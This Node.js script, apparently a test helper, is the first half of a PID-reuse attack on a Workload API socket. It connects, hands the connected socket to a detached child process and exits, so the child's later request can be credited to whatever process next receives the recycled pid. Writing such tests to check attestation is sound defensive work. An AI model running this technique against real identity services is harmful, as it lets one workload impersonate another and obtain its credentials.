/**
 * PID-reuse attacker, first half: connects to the Workload API socket, so that the
 * kernel records this process's pid as the peer, hands the connected socket to a
 * detached child (inherited-socket-client) as its fd 3, and exits at once. The child
 * sends the request later, after another process may have been given this pid.
 *
 * Usage: node connect-and-hand-off.js SOCKET_PATH GO_FILE RESULT_FILE
 * Prints this process's pid before exiting.
 */
import { spawn } from "node:child_process";
import { connect } from "node:net";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";

const [socketPath, goFile, resultFile] = process.argv.slice(2);
if (socketPath === undefined || goFile === undefined || resultFile === undefined) {
  console.error("usage: connect-and-hand-off SOCKET_PATH GO_FILE RESULT_FILE");
  process.exit(2);
}

const client = join(dirname(fileURLToPath(import.meta.url)), "inherited-socket-client.js");
const socket = connect(socketPath, () => {
  const child = spawn(process.execPath, [client, goFile, resultFile], {
    detached: true,
    // Nothing inherited but the socket: an inherited pipe would keep the caller of this
    // process waiting for output until the child exits.
    stdio: ["ignore", "ignore", "ignore", socket],
  });
  child.unref();
  console.log(String(process.pid));
  process.exit(0);
});
socket.once("error", (error) => {
  console.error(`cannot connect to ${socketPath}: ${error.message}`);
  process.exit(1);
});
